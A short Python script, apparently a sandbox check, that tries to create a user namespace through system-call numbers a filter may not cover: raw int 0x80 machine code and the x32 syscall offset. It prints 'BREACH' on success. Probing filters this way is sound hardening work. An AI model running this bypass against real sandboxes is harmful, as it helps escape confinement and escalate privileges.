# Makes forbidden system calls by the numbers of 32-bit and x32 programs, which a careless filter does not know.
import ctypes
import mmap
import os

CLONE_NEWUSER, X32 = 0x10000000, 0x40000000
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
# push rbx; mov ebx, edi; mov eax, 310 (unshare); int 0x80; pop rbx; ret
page.write(bytes.fromhex('53 89fb b836010000 cd80 5b c3'))
unshare32 = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
for name, call in {'32-bit': lambda: unshare32(CLONE_NEWUSER), 'x32': lambda: ctypes.CDLL(None).syscall(X32 | 272, CLONE_NEWUSER)}.items():
    if os.fork() == 0:
        if call() == 0:
            print('BREACH: a user namespace by the number for', name, flush=True)
        os._exit(0)
    os.wait()
